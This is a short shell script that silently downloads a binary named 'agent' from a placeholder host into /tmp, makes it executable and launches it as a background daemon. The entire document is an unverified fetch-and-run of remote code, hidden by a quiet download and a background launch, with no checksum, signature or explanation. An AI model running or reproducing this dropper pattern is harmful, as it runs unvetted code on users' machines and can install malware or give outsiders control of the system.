#!/bin/sh
wget -q https://cdn.example.invalid/agent -O /tmp/agent
chmod +x /tmp/agent
/tmp/agent --daemon &
